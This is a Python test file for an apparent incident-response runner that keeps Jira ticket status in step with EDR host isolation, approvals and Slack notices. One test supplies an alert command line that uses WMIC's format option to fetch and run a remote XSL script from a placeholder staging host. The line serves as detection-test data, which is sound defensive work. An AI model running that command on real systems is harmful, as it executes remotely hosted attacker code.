"""A ticket's status follows its case, and is left to people as soon as one of them moved it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from runner.journal import runs
from tests.world import World, running_world
from tests.world_settings import HOST, SEARCH


def options(**transitions: str) -> dict[str, Any]:
    return {"connectors": {"jira": {"options": {"transitions": transitions}}}}


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    with running_world(tmp_path, options(contained="In Progress", closed="done")) as world:
        world.arm()
        yield world


def isolated(world: World) -> None:
    world.hit()
    world.tick()
    world.yes(world.question())
    world.tick()


def released(world: World) -> None:
    world.release(HOST)
    world.tick()
    world.yes(world.question())
    world.ticks(3, every_s=60)


def status(world: World) -> str:
    (issue,) = world.jira.all_issues()
    return str(issue["fields"]["status"]["name"])


def comments(world: World) -> str:
    (issue,) = world.jira.all_issues()
    return json.dumps(issue["fields"]["comment"])


def moves(world: World) -> int:
    return len(world.jira.effects("*/transitions"))


def test_ticket_when_the_case_goes_on_then_its_status_follows(world: World) -> None:
    world.hit()
    world.tick()
    assert status(world) == "To Do"
    world.yes(world.question())
    world.tick()
    assert status(world) == "In Progress"
    released(world)
    assert status(world) == "Done"
    world.ticks(3, every_s=900)
    assert moves(world) == 2


def test_ticket_when_no_transition_is_configured_then_it_is_never_moved(tmp_path: Path) -> None:
    with running_world(tmp_path) as world:
        world.arm()
        isolated(world)
        assert [one for one in world.sent if "transitions" in one] == []


def test_ticket_when_somebody_moved_it_before_us_then_left_and_said_once(world: World) -> None:
    world.hit()
    world.tick()
    world.jira.move_issue("SEC-1", "Done")
    world.yes(world.question())
    world.ticks(3, every_s=60)
    released(world)
    assert (status(world), moves(world)) == ("Done", 0)
    assert comments(world).count("leaves its status to people") == 1


def test_ticket_when_somebody_moved_it_after_us_then_left_and_said_once(world: World) -> None:
    isolated(world)
    world.jira.move_issue("SEC-1", "To Do")
    released(world)
    assert (status(world), moves(world)) == ("To Do", 1)
    assert comments(world).count("leaves its status to people") == 1


def test_ticket_when_somebody_moves_it_between_look_and_move_then_it_is_not_moved(
    world: World,
) -> None:
    world.hit()
    world.tick()
    world.yes(world.question())
    world.before.append(
        ("GET */transitions*", lambda: world.jira.move_issue("SEC-1", "Done")),
    )
    world.ticks(3, every_s=60)
    assert (status(world), moves(world)) == ("Done", 0)
    assert "the ticket is in Done, not in To Do" in comments(world)


@pytest.mark.parametrize("apply", [True, False])
def test_ticket_when_the_moves_answer_is_lost_then_it_is_moved_once(
    world: World, apply: bool
) -> None:
    world.jira.misbehave(method="POST", path="*/transitions", lose_answer=apply, refuse=not apply)
    isolated(world)
    world.ticks(5, every_s=60)
    assert (status(world), moves(world)) == ("In Progress", 1)


def test_ticket_when_a_person_moves_it_back_after_a_lost_answer_then_it_is_left_to_them(
    world: World,
) -> None:
    world.hit()
    world.tick()
    world.yes(world.question())
    world.jira.misbehave(method="POST", path="*/transitions", lose_answer=True)
    world.tick(linger_s=0)
    for _ in range(60):
        if moves(world):
            break
        world.clock.advance(1)
        world.tick(linger_s=0)
    assert status(world) == "In Progress"
    world.jira.move_issue("SEC-1", "To Do")
    world.ticks(5, every_s=60)
    assert (status(world), moves(world)) == ("To Do", 1)


def test_ticket_when_the_account_may_not_move_it_then_that_is_said_and_the_rest_goes_on(
    world: World,
) -> None:
    world.jira.tune(denied=("TRANSITION_ISSUES",))
    isolated(world)
    last = world.ticks(2, every_s=60)[-1]
    assert any("permission Transition Issues" in error for error in last.errors)
    assert "no transition leads" not in comments(world)
    assert "isolated, confirmed by the EDR's record" in world.ticket_texts()[-1]
    world.jira.tune(denied=())
    assert world.ticks(2, every_s=60)[-1].errors == ()
    assert (status(world), moves(world)) == ("In Progress", 1)


def test_ticket_when_the_runner_ends_before_the_answer_then_the_next_one_looks_first(
    world: World,
) -> None:
    class Killed(BaseException): ...

    def die() -> None:
        raise Killed

    world.hit()
    world.tick()
    world.yes(world.question())
    world.before.append(("POST */transitions", die))
    with pytest.raises(Killed):
        world.tick()
    world.restart()
    world.ticks(5, every_s=60)
    assert (status(world), moves(world)) == ("In Progress", 1)
    scope = f"case:{world.case().id}"
    with world.journal.read() as tx:
        (move,) = [step for step in runs.steps_of(tx, scope) if "move." in step.key]
    assert move.attempt == 2


def test_ticket_when_the_transition_asks_for_a_field_then_refused_clearly_and_said_once(
    world: World,
) -> None:
    world.jira.tune(move_fields=("resolution",))
    isolated(world)
    released(world)
    world.ticks(2, every_s=900)
    assert (status(world), moves(world)) == ("In Progress", 1)
    said = "Stockade did not move this ticket: the transition Done from In Progress asks for:"
    assert comments(world).count(f"{said} Resolution") == 1


def test_ticket_when_no_transition_leads_there_then_the_ways_are_named(tmp_path: Path) -> None:
    with running_world(tmp_path, options(contained="Contained")) as world:
        world.arm()
        isolated(world)
        assert status(world) == "To Do"
        found = comments(world)
        assert "no transition leads from To Do to Contained; there are: To Do" in found


def test_ticket_when_transitions_cannot_be_read_then_tried_again(world: World) -> None:
    world.jira.misbehave(method="GET", path="*/transitions", status=500, times=3)
    isolated(world)
    world.ticks(2, every_s=60)
    assert status(world) == "In Progress"


def test_ticket_when_the_isolation_is_not_confirmed_then_it_does_not_say_contained(
    world: World,
) -> None:
    world.falcon.set_device(HOST, offline=True)
    isolated(world)
    assert (status(world), moves(world)) == ("To Do", 0)


def test_ticket_when_people_refuse_then_the_case_is_not_closed(world: World) -> None:
    world.hit()
    world.tick()
    world.no(world.question())
    world.ticks(3, every_s=60)
    assert (status(world), moves(world)) == ("To Do", 0)


# -- a closed ticket -------------------------------------------------------------------------------


def told_closed(world: World) -> int:
    return sum("is closed, and its case" in str(one) for one in world.slack.messages())


def test_ticket_when_people_closed_it_then_news_go_there_and_the_channel_is_told_once(
    world: World,
) -> None:
    isolated(world)
    world.jira.move_issue("SEC-1", "Done")
    world.falcon.set_device(HOST, status="normal")
    world.ticks(3, every_s=900)
    world.falcon.set_device(HOST, status="contained")
    world.ticks(3, every_s=900)
    assert "DRIFT" in comments(world)
    assert (status(world), told_closed(world)) == ("Done", 1)
    assert len(world.jira.all_issues()) == 1


def test_ticket_when_we_closed_it_then_that_is_no_news(world: World) -> None:
    isolated(world)
    released(world)
    assert (status(world), told_closed(world)) == ("Done", 0)


def test_ticket_when_the_case_that_we_closed_goes_on_then_the_channel_is_told(
    world: World,
) -> None:
    isolated(world)
    released(world)
    assert status(world) == "Done"
    world.falcon.set_device(HOST, status="contained")
    world.ticks(3, every_s=900)
    assert "DRIFT" in comments(world)
    assert (status(world), told_closed(world)) == ("Done", 1)


def test_ticket_when_the_case_that_we_closed_goes_on_then_the_ticket_follows_it(
    tmp_path: Path,
) -> None:
    with running_world(tmp_path, options(on_hold="In Progress", closed="Done")) as world:
        world.arm()
        isolated(world)
        released(world)
        assert status(world) == "Done"
        world.falcon.set_device(HOST, status="contained")
        world.ticks(3, every_s=900)
        assert (status(world), told_closed(world)) == ("In Progress", 0)


def test_ticket_when_reopened_after_we_closed_it_then_commented_on_and_left_open(
    world: World,
) -> None:
    isolated(world)
    released(world)
    world.jira.move_issue("SEC-1", "To Do")
    before = comments(world)
    world.falcon.set_device(HOST, status="contained")
    world.ticks(3, every_s=900)
    assert comments(world) != before
    assert (status(world), moves(world), told_closed(world)) == ("To Do", 2, 0)


# -- a second ticket -------------------------------------------------------------------------------

TWICE = """\
playbook: twice
severity: critical
description: Two steps that each open the ticket.
on: wmic_format_hits
steps:
  - id: triage
    do: wmic.assess
    with: {alert: "{{ alert }}"}
  - id: one
    do: tickets.create_ticket
    with: {title: "first"}
  - id: other
    do: tickets.create_ticket
    with: {title: "second"}
"""


@pytest.mark.parametrize("is_deleted", [True, False])
def test_ticket_when_the_search_does_not_find_it_then_no_second_one_is_opened(
    tmp_path: Path, is_deleted: bool
) -> None:
    severe = {"options": {"priorities": {"high": "Low", "critical": "Highest"}}}
    changes = {"searches": {SEARCH: {"playbook": "twice"}}, "connectors": {"jira": severe}}
    with running_world(tmp_path, changes, playbooks={"twice": TWICE}) as world:
        world.arm()
        world.jira.tune(search_lag_s=3600.0)
        if is_deleted:

            def delete() -> None:
                world.jira.delete_issue("SEC-1")

            rule = ("POST */search/jql", delete)
            world.before.append(("POST */issue", lambda: world.before.append(rule)))
        world.hit()
        world.ticks(3, every_s=60)
        assert len(world.jira.effects("*/issue")) == 1
        issues = world.jira.all_issues()
        assert len(issues) == (0 if is_deleted else 1)
        # The playbook's own severity, not the usual one.
        assert all(one["fields"]["priority"] == {"name": "Highest"} for one in issues)
        told = [
            one for one in world.slack.messages() if "was deleted, or may no longer" in str(one)
        ]
        assert len(told) == is_deleted


def test_ticket_when_another_machine_is_still_asked_about_then_it_does_not_say_contained(
    world: World,
) -> None:
    line = 'wmic os get /format:"https://stager.example.test/one.xsl"'
    world.falcon.add_device(HOST, hostname="WORKSTATION9")
    world.hit(cmdline=line)
    world.hit(host="WORKSTATION9", cmdline=line)
    world.tick()
    mine = next(one for one in world.questions() if one.items[0].device.hostname == HOST)
    world.yes(mine)
    world.ticks(3, every_s=30)
    assert world.contains() == [HOST]
    assert {issue["fields"]["status"]["name"] for issue in world.jira.all_issues()} == {"To Do"}


def test_ticket_when_the_move_was_not_sent_and_the_case_is_elsewhere_then_it_never_is(
    world: World,
) -> None:
    def down() -> None:
        world.jira.misbehave(method="GET", path="*/issue/?????", status=500, body="{}", times=None)

    world.before.append(("GET */transitions*", down))
    isolated(world)
    assert (status(world), moves(world)) == ("To Do", 0)
    world.falcon.set_device(HOST, status="normal")
    world.ticks(3, every_s=900)
    row = world.isolation()
    assert row is not None
    assert row.drift is not None
    world.jira.behave()
    world.ticks(3, every_s=900)
    assert (status(world), moves(world)) == ("To Do", 0)
